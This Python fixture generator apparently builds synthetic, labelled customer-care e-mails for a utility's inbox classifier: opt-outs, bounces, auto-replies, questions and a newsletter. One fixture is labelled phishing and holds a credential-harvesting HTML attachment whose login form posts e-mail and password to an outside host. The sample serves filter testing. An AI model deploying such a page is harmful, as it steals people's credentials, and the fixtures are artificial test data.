"""Friday 15 October 2027."""
from core import (T, rfc, to_off, rs, HEX, HEXU, ALNUM, Leaf, Multi, esc, b64blob, uuid_lower, uuid_upper, epoch_ms, crlf,
                  enc_b64, enc_qp)
from mail import (mail, reply, via_gmail, via_outlookcom, via_yahoo, via_icloud, via_proton, via_fastmail, via_comcast,
                  via_host, sub_received, auth_results, dkim_header)
from clients import (gmail, outlook_desktop, outlook_web, apple_mail, iphone, samsung, yahoo, thunderbird, proton,
                     fastmail, ox, zimbra, roundcube, wlm, CONTENT, from_hdr, html_divs)
import machines
import ours
from ours import CC, PH
import fixtures

FT = "furnace promo (AE-FT-2710)"
PV = "holiday preview e-mail (PH-2710)"


# ---------------------------------------------------------------- 06:20 Postfix delay warning
@mail("dsn-postfix-delayed-coop", "2027-10-15 06:20:33", "customercare", "automated: bounce (delay warning)",
      answers="our acknowledgement CC-2027-10-04519", program="Postfix DSN (our mx2), delay", delay=1)
def _(m):
    o = ours.ack("CC-2027-10-04519", "rbaumler@fctc.coop", T("2027-10-15 02:14:48"))
    machines.postfix_dsn(m, o, "rbaumler@fctc.coop", "mail.fctc.coop",
                         "connect to mail.fctc.coop[204.62.71.18]:25: Connection timed out", status="4.4.1",
                         action="delayed", mta="mx2", when_queued=T("2027-10-15 02:14:48"), headers_only=True,
                         text="<rbaumler@fctc.coop>: connect to mail.fctc.coop[204.62.71.18]:25: Connection timed\n    out")
    m.machine("Postfix 'Delayed Mail (still being retried)' warning with only the headers of our acknowledgement; nothing to act on.")


# ---------------------------------------------------------------- 07:05 SmarterMail, HTML only, business share opt-out
@mail("pothoff-smartermail-html-only", "2027-10-15 07:05:14", "powerhousecatalog", "catalog-sharing opt-out",
      program="SmarterMail webmail (small-business host), HTML only")
def _(m):
    r = m.r
    m.who("Gene Pothoff", "gene@pothoffseed.com")
    m.subject = "Customer ID 118-4477-02"
    m.to = "powerhousecatalog@alliant-energy.com"
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body><div style="font-family: '
            'Verdana, Geneva, sans-serif; font-size: 10pt;"><p>To PowerHouse Catalog,</p><p>We order shop lights and extension cords '
            'from your catalog for the seed plant. Do not share our information with any third party.&nbsp; That goes for my name, '
            'the business name and the address.</p><p>Customer ID 118-4477-02 (on the back of the catalog)</p><p>Gene Pothoff<br>'
            'Pothoff Seed &amp; Supply<br>2150 Hwy 136 N<br>Dyersville, IA 52040<br>563-555-0103</p></div></body></html>\n')
    m.top = Leaf("text/html; charset=utf-8", html, "quoted-printable")
    m.msgid = "<%s@pothoffseed.com>" % rs(r, 32, HEX)
    m.hdrs = [("MIME-Version", "1.0"), ("Date", rfc(m.sent)), ("Message-ID", m.msgid), ("Subject", m.subject),
              ("From", "Gene Pothoff <gene@pothoffseed.com>"), ("To", m.to), CONTENT, ("X-Mailer", "SmarterMail Build 9091"),
              ("X-Originating-IP", "[198.51.100.%d]" % r.randint(2, 250))]
    via_host(m, "mail.hostedsmartermail.com", "mail12.hostedsmartermail.com", "66.85.%d.%d" % (r.randint(1, 250), r.randint(1, 250)),
             dkim=[("pothoffseed.com", "pass", "sm1")], dmarc="none")
    m.rcpt = PH
    m.label(labels=["catalog_share_opt_out"], entities={"name": "Gene Pothoff", "postal_code": "52040", "account": "118-4477-02"},
            note="HTML-only body: 'do not share our information with any third party' and they keep ordering; account is the catalog customer ID also in the subject.")


# ---------------------------------------------------------------- 07:40 Yahoo top-post under a bill notice, explicit object
@mail("yahoo-bill-notice-no-inserts", "2027-10-15 07:40:55", "customercare", "marketing opt-out", answers="bill notice",
      program="Yahoo Mail web")
def _(m):
    o = ours.bill("jo.vanwyk@yahoo.com", "2287", "143.09", "November 1, 2027", T("2027-10-15 05:02:00"), 3410877, "Jo Van Wyk")
    m.who("Jo Van Wyk", "jo.vanwyk@yahoo.com")
    reply(m, o, to="Alliant Energy Customer Care <customercare@alliant-energy.com>")
    text = """While I have you - please stop putting the advertising flyers in with my paper bill, and stop the emails about programs and rebates. The bill email is fine, keep that.

Jo Van Wyk"""
    yahoo(m, text, quote=o)
    via_yahoo(m)
    m.label(labels=["marketing_opt_out"], entities={"name": "Jo Van Wyk"},
            note="Replies to a bill notice but names promotional flyers and program e-mails and keeps the bill: an explicit marketing opt-out, unlike a bare 'STOP' under a service message.")


# ---------------------------------------------------------------- 08:50 Gmail reply to ack asking about paper catalog
@mail("gmail-ack-reply-paper-too", "2027-10-15 08:50:21", "customercare", "opt-out + question (reply to our acknowledgement)",
      answers="our acknowledgement CC-2027-10-04530", program="Gmail web")
def _(m):
    o = ours.ack("CC-2027-10-04530", "brenda.kuennen@gmail.com", T("2027-10-14 21:03:09"))
    m.who("Brenda Kuennen", "brenda.kuennen@gmail.com")
    reply(m, o, to="Alliant Energy Customer Care <customercare@alliant-energy.com>")
    text = "Thanks. Will this also stop the paper PowerHouse catalog or just the emails? I'd like both stopped."
    gmail(m, text, quote=o)
    via_gmail(m)
    m.label(labels=["marketing_opt_out", "question"], entities={},
            note="Reply to our acknowledgement: asks whether the paper catalog stops too (question) and says plainly 'I'd like both stopped' (the paper catalog may be new to the request): opt-out plus question.")


# ---------------------------------------------------------------- 09:30 challenge-response
@mail("boxbe-challenge", "2027-10-15 09:30:47", "customercare", "automated: challenge-response",
      answers="our acknowledgement CC-2027-10-04533", program="challenge-response service", delay=5)
def _(m):
    r = m.r
    m.who("Boxbe", "notify@boxbe.com")
    m.subject = "Please verify your email to Dale Hinrichs"
    text = """Hello Alliant Energy Customer Care,

Your message "We received your request [CC-2027-10-04533]" to dhinrichs@netins.net has been waitlisted.

Dale Hinrichs uses Boxbe to keep his inbox clean. To deliver your message, please verify that you are a real person by clicking the link below. You only have to do this once.

    Verify: https://www.boxbe.com/anno?tc_serial=%d&tc_rand=%d&utm_source=stf

If you do not verify, your message will be deleted in 7 days.

- The Boxbe Team
This is an automated message. Please do not reply.
""" % (r.randint(10 ** 10, 10 ** 11), r.randint(10 ** 8, 10 ** 9))
    html = '<html><body style="font-family:Arial;font-size:13px">%s</body></html>\n' % "".join(
        "<p>%s</p>" % esc(p) for p in text.strip().split("\n\n"))
    b = "----=_Part_%d_%d.%d" % (r.randint(10000, 999999), r.randint(10 ** 8, 10 ** 9), epoch_ms(m.sent))
    m.top = Multi("alternative", b, [Leaf("text/plain; charset=UTF-8", text, "7bit"),
                                     Leaf("text/html; charset=UTF-8", html, "quoted-printable")])
    m.msgid = "<%d.%d.%d@boxbe.com>" % (r.randint(10 ** 8, 10 ** 9), r.randint(1000, 9999), epoch_ms(m.sent))
    m.hdrs = [("Date", rfc(to_off(m.sent, -7))), ("From", "Boxbe <notify@boxbe.com>"), ("Reply-To", "Boxbe <noreply@boxbe.com>"),
              ("To", CC), ("Message-ID", m.msgid), ("In-Reply-To", "<ack.CC-2027-10-04533@alliant-energy.com>"),
              ("Subject", m.subject), ("MIME-Version", "1.0"), CONTENT, ("Auto-Submitted", "auto-replied"),
              ("X-Boxbe-Challenge", "waitlist")]
    via_host(m, "mailer%d.boxbe.com" % r.randint(1, 9), "mailer4.boxbe.com", "208.85.%d.%d" % (r.randint(48, 55), r.randint(1, 250)),
             dkim=[("boxbe.com", "pass", "bx1")])
    m.machine("Challenge-response demanding we verify ourselves to deliver our acknowledgement; software, never answered.")


# ---------------------------------------------------------------- 10:10 church office, Roundcube, stop the furnace e-mails
@mail("church-office-roundcube-nonprofit", "2027-10-15 10:10:02", "customercare", "marketing opt-out", answers=FT,
      program="Roundcube (church domain)")
def _(m):
    r = m.r
    o = ours.furnace("office@firstpresmaquoketa.org", 48817)
    m.who("First Presbyterian Church Office", "office@firstpresmaquoketa.org")
    reply(m, o, to="Alliant Energy <customercare@alliant-energy.com>")
    text = """Hello,

Please remove the church office address from your promotional e-mails. This inbox is for prayer requests and scheduling and your ads get in the way. The church's electric and gas accounts are fine as they are - please keep sending the bills.

Thank you,
Sharon
Office Administrator
First Presbyterian Church, Maquoketa"""
    roundcube(m, text, quote=o, pos="top", version="1.5.3")
    via_host(m, "cpanel4.hostmonster.com", "cpanel4.hostmonster.com", "74.220.219.%d" % r.randint(10, 200),
             inner=[("Received", "from [198.51.100.%d] (port=%d helo=webmail.firstpresmaquoketa.org)\n\tby cpanel4.hostmonster.com "
                                 "with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n\t(Exim 4.96.2)\n\t(envelope-from "
                                 "<office@firstpresmaquoketa.org>)\n\tid 1qZx%s-003%s-2B\n\tfor customercare@alliant-energy.com; %s" % (
                                     r.randint(2, 250), r.randint(50000, 65000), rs(r, 4, ALNUM), rs(r, 3, ALNUM), rfc(m.sent))),
                    ("X-AntiAbuse", "This header was added to track abuse, please include it with any abuse report"),
                    ("X-AntiAbuse", "Primary Hostname - cpanel4.hostmonster.com"),
                    ("X-Authenticated-Sender", "cpanel4.hostmonster.com: office@firstpresmaquoketa.org")],
             dkim=[("firstpresmaquoketa.org", "pass", "default")], dmarc="none")
    m.label(labels=["marketing_opt_out"], entities={"name": "Sharon"},
            note="Church office (account holder organisation) stops promotional e-mail, keeps bills; top-posted in Roundcube over a '>' quote; the first name in the signature is the name.")


# ---------------------------------------------------------------- 10:50 Gmail reply to ack: 'do the same for my other address'
@mail("gmail-ack-reply-same-other-address", "2027-10-15 10:50:38", "customercare", "unclear (refers to earlier mail)",
      answers="our acknowledgement CC-2027-10-04528", program="Gmail web")
def _(m):
    o = ours.ack("CC-2027-10-04528", "lmwagner.cr@gmail.com", T("2027-10-14 20:11:44"))
    m.who("Laura Wagner", "lmwagner.cr@gmail.com")
    reply(m, o, to="Alliant Energy Customer Care <customercare@alliant-energy.com>")
    text = "Can you do the same for my other email too? It's lmwagner@mchsi.com. Thank you!"
    gmail(m, text, quote=o)
    via_gmail(m)
    m.label(unclear=True, entities={},
            note="'Do the same for my other email' points at an earlier request it never names; the quoted ack covers both opt-outs and questions, so staff must look it up: unclear.")


# ---------------------------------------------------------------- 11:30 chamber newsletter
@mail("chamber-newsletter", "2027-10-15 11:30:00", "customercare", "automated: newsletter", program="ESP (chamber of commerce)",
      delay=6)
def _(m):
    r = m.r
    m.who("Linn Area Business Bulletin", "news@linnareachamber.org")
    m.env_from = "bounces+%d-%s-customercare=alliant-energy.com@em%d.linnareachamber.org" % (r.randint(10 ** 6, 10 ** 7), rs(r, 4, HEX), r.randint(1000, 9999))
    m.subject = "Business Bulletin: Fall Business Expo, ribbon cuttings, and a word from our energy partner"
    text = """LINN AREA BUSINESS BULLETIN - October 15, 2027

FALL BUSINESS EXPO - OCT 28
Booths are almost sold out. Register at linnareachamber.org/expo

RIBBON CUTTINGS THIS WEEK
- Kramer Plumbing & Heating, new showroom, 1420 7th Ave SW
- Prairie Home Realty, Marion office

FROM OUR ENERGY PARTNER
Alliant Energy reminds members that fall furnace tune-up offers are available
through November 30.

You are receiving this because customercare@alliant-energy.com is listed as a
contact for a member business. Update preferences | Unsubscribe
Linn Area Chamber of Commerce, 501 1st St SE, Cedar Rapids, IA 52401
"""
    html = ('<html><body style="font-family:Arial;background:#f4f4f4"><table width="600" align="center" style="background:#fff"><tr><td '
            'style="background:#6b1d1d;color:#fff;padding:16px;font-size:20px">LINN AREA BUSINESS BULLETIN</td></tr><tr><td style="padding'
            ':16px">%s</td></tr></table></body></html>\n' % "".join("<p>%s</p>" % esc(p).replace("\n", "<br>") for p in text.strip().split("\n\n")[1:]))
    b = rs(r, 60, HEX)
    m.top = Multi("alternative", b, [Leaf("text/plain; charset=us-ascii", text, "quoted-printable"),
                                     Leaf("text/html; charset=us-ascii", html, "quoted-printable")])
    m.msgid = "<%s@geopod-ismtpd-%d>" % (rs(r, 22, ALNUM), r.randint(1, 40))
    m.hdrs = [("Content-Type", None), ("Date", rfc(to_off(m.sent, 0))), ("From", "Linn Area Business Bulletin <news@linnareachamber.org>"),
              ("Mime-Version", "1.0"), ("Message-ID", m.msgid), ("Subject", m.subject), ("To", CC),
              ("List-Unsubscribe", "<https://u%d.ct.sendgrid.net/lu/unsubscribe?oc=%s>" % (r.randint(10 ** 6, 10 ** 7), rs(r, 40, ALNUM))),
              ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("X-SG-EID", b64blob(r, 60)), ("X-Entity-ID", b64blob(r, 16)[:22])]
    m.hdrs[0] = CONTENT
    via_host(m, "o%d.ptr%d.linnareachamber.org" % (r.randint(1, 9), r.randint(1000, 9999)), "o3.ptr4403.linnareachamber.org",
             "149.72.%d.%d" % (r.randint(100, 200), r.randint(1, 250)),
             inner=[("DKIM-Signature", dkim_header(m, "linnareachamber.org", "s1", "content-type:from:mime-version:subject:list-unsubscribe:\n\tlist-unsubscribe-post:to:cc:content-type:from:subject:to", lead="\t"))],
             dkim=[("linnareachamber.org", "pass", "s1"), ("sendgrid.info", "pass", "smtpapi")])
    m.machine("Chamber newsletter (List-Unsubscribe) that even mentions our furnace offer; bulk mail to a contact address, no request.")


# ---------------------------------------------------------------- 12:05 inbox-cleaning service, Auto-Submitted
@mail("inboxsweep-unsubscribe", "2027-10-15 12:05:19", "customercare", "software unsubscribe (inbox cleaner, Auto-Submitted)",
      answers=FT, program="InboxSweep (inbox-cleaning service via Gmail API)")
def _(m):
    r = m.r
    m.who("Andrea Schmitt", "andrea.schmitt.iowa@gmail.com")
    m.subject = "unsubscribe AE-FT-2710"
    m.to = CC
    text = ("This unsubscribe request was sent by InboxSweep on behalf of one of its users, using the address in your "
            "List-Unsubscribe header.\n\nhttps://inboxsweep.app/senders\n")
    m.top = Leaf('text/plain; charset="UTF-8"', text, "7bit")
    m.msgid = "<CA%s@mail.gmail.com>" % rs(r, 56, ALNUM + "+_-=")
    m.hdrs = [("MIME-Version", "1.0"), ("From", "Andrea Schmitt <andrea.schmitt.iowa@gmail.com>"), ("Date", rfc(m.sent)),
              ("Message-ID", m.msgid), ("Subject", m.subject), ("To", CC), ("Auto-Submitted", "auto-generated"),
              ("X-Mailer", "InboxSweep/3.2 (+https://inboxsweep.app)"), CONTENT]
    via_gmail(m)
    m.trace[0] = ("Received", "from %d named unknown by gmailapi.google.com with\n        HTTPREST; %s" % (
        r.randint(10 ** 11, 10 ** 12), rfc(to_off(m.sent, -7))))
    m.label(labels=["marketing_opt_out"], entities={}, ack_to=None,
            note="An inbox-cleaning service sent our List-Unsubscribe mailto for its user: a person's marketing opt-out, but it carries Auto-Submitted, so no acknowledgement (RFC 3834).")


# ---------------------------------------------------------------- 12:40 Stenberg, Apple Mail, vCard, both
@mail("stenberg-applemail-vcard-both", "2027-10-15 12:40:50", "powerhousecatalog", "both opt-outs",
      program="Apple Mail (macOS), vCard attached")
def _(m):
    m.who("Mark Stenberg", "markstenberg@icloud.com")
    m.subject = "Catalog and our names"
    m.to = PH
    text = """Hello,

Please remove both of us (Mark and Julie Stenberg) from the PowerHouse catalog mailing list, and do not share or sell our names or address to anyone.

3605 Hawthorne Ln
Sun Prairie, WI 53590

My contact card is attached in case you need to call.

Mark"""
    vcf = ("BEGIN:VCARD\r\nVERSION:3.0\r\nPRODID:-//Apple Inc.//macOS 15.0//EN\r\nN:Stenberg;Mark;;;\r\nFN:Mark Stenberg\r\n"
           "EMAIL;type=INTERNET;type=HOME;type=pref:markstenberg@icloud.com\r\nTEL;type=CELL;type=VOICE;type=pref:(608) 555-0185\r\n"
           "item1.ADR;type=HOME;type=pref:;;3605 Hawthorne Ln;Sun Prairie;WI;53590;United States\r\nEND:VCARD\r\n").encode()
    apple_mail(m, text, attach=[("text/vcard", "Mark Stenberg.vcf", vcf)])
    via_icloud(m)
    m.rcpt = PH
    m.label(labels=["marketing_opt_out", "catalog_share_opt_out"],
            entities={"name": "Mark and Julie Stenberg", "postal_code": "53590"},
            note="Household member for both spouses: off the catalog list and no sharing; the joint name comes from the body, not from the attached vCard.")


# ---------------------------------------------------------------- 13:25 phishing with an HTML attachment
@mail("phish-remittance-htm", "2027-10-15 13:25:07", "powerhousecatalog", "automated: phishing", program="bulk mailer", off=0, delay=7)
def _(m):
    r = m.r
    m.who("Accounts Payable", "ap@northwoods-gardensupply.co")
    m.subject = "Remittance Advice - INV-40271 - PowerHouse Catalog"
    text = "Hello,\n\nPlease find attached the remittance advice for invoice INV-40271. Kindly confirm receipt.\n\nRegards,\nAccounts Payable\n"
    att = ('<html><head><title>Microsoft Excel Online</title></head><body style="font-family:Segoe UI"><div style="width:360px;margin:80px auto;'
           'border:1px solid #ccc;padding:24px"><h3>Sign in to view Remittance_INV-40271.xlsx</h3><form action="https://excel-online-viewer'
           '.top/p.php" method="post"><input name="email" value="powerhousecatalog@alliant-energy.com" style="width:100%%"><br><br><input '
           'name="pass" type="password" placeholder="Password" style="width:100%%"><br><br><button>View document</button></form></div>'
           '<script>var t="%s";</script></body></html>\n' % b64blob(r, 80))
    b = "----=_NextPart_%s" % rs(r, 24, HEX)
    m.top = Multi("mixed", b, [Leaf('text/plain; charset="us-ascii"', text, "7bit"),
                               Leaf('text/html; name="Remittance_Advice_INV-40271.htm"', enc_b64(att.encode()), "base64",
                                    [("Content-Disposition", 'attachment; filename="Remittance_Advice_INV-40271.htm"')])])
    m.msgid = "<%s$%s@northwoods-gardensupply.co>" % (rs(r, 12, HEX), rs(r, 8, HEX))
    m.rcpt = PH
    m.hdrs = [("From", "Accounts Payable <ap@northwoods-gardensupply.co>"), ("To", PH), ("Subject", m.subject),
              ("Date", rfc(m.sent)), ("Message-ID", m.msgid), ("MIME-Version", "1.0"), CONTENT]
    via_host(m, "northwoods-gardensupply.co", "static.%d.vps.example" % r.randint(100, 999), "203.0.113.%d" % r.randint(2, 250),
             dkim=None, spf="softfail", dmarc="none")
    m.spam = (4.402, "BAYES_50=0.8, HTML_ATTACHMENT=0.8, SPF_SOFTFAIL=0.665, RDNS_NONE=0.793, T_OBFU_HTML_ATTACH=0.1, "
                     "FREEMAIL_REPLYTO=1.2, T_SCC_BODY_TEXT_LINE=-0.01")
    m.machine("Invoice-themed credential phishing with an .htm login form attached; unrelated to any customer request.")


# ---------------------------------------------------------------- 14:00 landlord, Exchange, legal footer: on behalf of tenants
@mail("landlord-exchange-tenants", "2027-10-15 14:00:26", "customercare", "unclear (on behalf of tenants)", answers=FT,
      program="Outlook 365 desktop (Exchange Online, property manager)")
def _(m):
    r = m.r
    o = ours.furnace("leasing@cornerstonepropmgmt.com", 5520, "Cornerstone Leasing")
    m.who("Dana Whitcomb", "dwhitcomb@cornerstonepropmgmt.com")
    reply(m, o, prefix="FW: ", to="customercare@alliant-energy.com")
    m.irt = None
    m.refs = None
    text = """Good afternoon,

I\u2019m forwarding the promotion below, which came to our leasing inbox. We manage 140 units in Hiawatha and Marion and several tenants have asked us why Alliant is sending them furnace offers, since the furnaces are owner-maintained.

Please stop sending marketing to all tenants at our properties. The tenant-occupied units are all on Boyson Rd and N Center Point Rd.

Thank you,"""
    sig = """Dana Whitcomb
Property Manager | Cornerstone Property Management
905 N Center Point Rd, Hiawatha, IA 52233
P 319-555-0177"""
    legal = ("This e-mail, including any attachments, is intended only for the named recipient(s) and may contain information that "
             "is privileged or confidential. Any unauthorized review, use, disclosure or distribution is prohibited. If you are not "
             "the intended recipient, please contact the sender by reply e-mail and destroy all copies of the original message.")
    outlook_desktop(m, text, quote=o, sig=sig, legal=legal, exchange="BY5PR17MB3900.namprd17.prod.outlook.com",
                    to_disp="Cornerstone Leasing <leasing@cornerstonepropmgmt.com>")
    via_outlookcom(m)
    m.label(unclear=True, entities={},
            note="A property manager asks to stop marketing for all tenants: on behalf of people she has no standing for (they hold their own accounts) and no names; unclear for staff; the ZIP in her signature is the firm's, not a tenant's.")


# ---------------------------------------------------------------- 14:45 Gmail Android, phone number question
@mail("gmail-android-ph-phone-number", "2027-10-15 14:45:13", "powerhousecatalog", "question", program="Gmail Android")
def _(m):
    m.who("Patty Schroeder", "pattyschroeder1962@gmail.com")
    m.subject = "Phone number?"
    m.to = PH
    text = """What is the phone number for PowerHouse customer service? I looked all through the catalog and can only find the website. I want to order the pie irons over the phone I don't like putting my card in online.

Patty Schroeder"""
    gmail(m, text, app="android")
    via_gmail(m, "android")
    m.rcpt = PH
    m.label(labels=["question"], entities={"name": "Patty Schroeder"},
            note="Ordinary customer-service question to the catalog box; no opt-out of any kind.")


# ---------------------------------------------------------------- 15:20 headerless out-of-office to the preview
@mail("headerless-ooo-preview-business", "2027-10-15 15:20:59", "powerhousecatalog", "automated: auto-reply (headerless)",
      answers=PV, program="GoDaddy Workspace webmail auto-reply", delay=3)
def _(m):
    r = m.r
    o = ours.preview("orders@quiltsbyjeanne.com", 175002)
    m.who("Quilts by Jeanne", "orders@quiltsbyjeanne.com")
    m.subject = "Out of Office: " + o.subject
    text = """Thank you for your message! Quilts by Jeanne is closed October 11-22 while we are at the Paducah quilt show. Orders placed online will ship when we return. We appreciate your patience!

Jeanne"""
    html = '<html><body><p>%s</p></body></html>\n' % esc(text).replace("\n\n", "</p><p>")
    b = "----=_Part_%d_%d.%d" % (r.randint(10000, 999999), r.randint(10 ** 8, 10 ** 9), epoch_ms(m.sent))
    m.top = Multi("alternative", b, [Leaf("text/plain; charset=UTF-8", text + "\n", "7bit"),
                                     Leaf("text/html; charset=UTF-8", html, "7bit")])
    m.msgid = "<%d.%d.%d@email.secureserver.net>" % (r.randint(10 ** 8, 10 ** 9), r.randint(1000, 9999), epoch_ms(m.sent))
    m.rcpt = PH
    m.hdrs = [("Date", rfc(to_off(m.sent, -7))), ("From", "Quilts by Jeanne <orders@quiltsbyjeanne.com>"), ("To", PH),
              ("Message-ID", m.msgid), ("In-Reply-To", o.msgid), ("Subject", m.subject), ("MIME-Version", "1.0"), CONTENT,
              ("X-Priority", "3"), ("Importance", "Medium"), ("X-Mailer", "Open-Xchange Mailer v7.10.6-Rev58")]
    via_host(m, "p3plwbeout%02d-%02d.prod.phx3.secureserver.net" % (r.randint(1, 30), r.randint(1, 9)),
             "p3plwbeout17-04.prod.phx3.secureserver.net", "173.201.193.%d" % r.randint(10, 250),
             dkim=None, dmarc="none")
    m.machine("Small business's out-of-office answering the catalog preview with no Auto-Submitted header: still a machine.")


# ---------------------------------------------------------------- 16:00 Yahoo iPhone, Spanish, share opt-out, keep catalog
@mail("yahoo-ios-es-no-compartan", "2027-10-15 16:00:36", "powerhousecatalog", "catalog-sharing opt-out", lang="es",
      program="Yahoo Mail iOS")
def _(m):
    m.who("Yolanda Gutierrez", "yoli_gtz@yahoo.com")
    m.subject = "Mi nombre"
    m.to = PH
    text = """Hola,
No quiero que compartan mi nombre ni mi dirección con otras compañías. Sigan mandándome el catálogo, eso sí me gusta.
Yolanda Gutiérrez
Columbus Junction, IA 52738"""
    yahoo(m, text, app="ios")
    via_yahoo(m)
    m.rcpt = PH
    m.label(labels=["catalog_share_opt_out"], entities={"name": "Yolanda Gutiérrez", "postal_code": "52738"},
            note="Spanish: don't share my name or address, keep sending the catalog: sharing opt-out only; name taken with its accent from the body, not the unaccented From.")


# ---------------------------------------------------------------- 17:10 AOL Android: scam call about the offer
@mail("aol-android-scam-call", "2027-10-15 17:10:08", "customercare", "question (fraud report)", program="AOL app (Android)")
def _(m):
    m.who("Verna Brockmeyer", "vbrockmeyer@aol.com")
    m.subject = "Phone call"
    text = """I got a call today from a man saying he was from Alliant Energy about the $40 furnace deal and he wanted my credit card number to hold the appointment. I hung up. Is that really you? If not somebody is using your name. He had my name and knew I had gas heat.

Verna Brockmeyer
Independence"""
    yahoo(m, text, app="aol_android", brand="aol")
    via_yahoo(m, brand="aol")
    m.label(labels=["question"], entities={"name": "Verna Brockmeyer"},
            note="Reports a scam call using our offer and asks if it was us: needs a person (fraud, and possibly data exposure); no opt-out.")


# ---------------------------------------------------------------- 18:30 iPhone emoji reply to the preview
@mail("iphone-thumbs-up-preview", "2027-10-15 18:30:41", "powerhousecatalog", "unclear (emoji only)", answers=PV,
      program="iPhone Mail")
def _(m):
    o = ours.preview("tjbuhr@icloud.com", 97714)
    m.who("TJ Buhr", "tjbuhr@icloud.com")
    reply(m, o, to="PowerHouse Catalog <powerhousecatalog@alliant-energy.com>")
    iphone(m, "\U0001F44D", quote=o)
    via_icloud(m)
    m.rcpt = PH
    m.label(unclear=True, entities={},
            note="A thumbs-up emoji under the preview: says nothing decidable (likes it? agrees to the sharing line?), so unclear.")
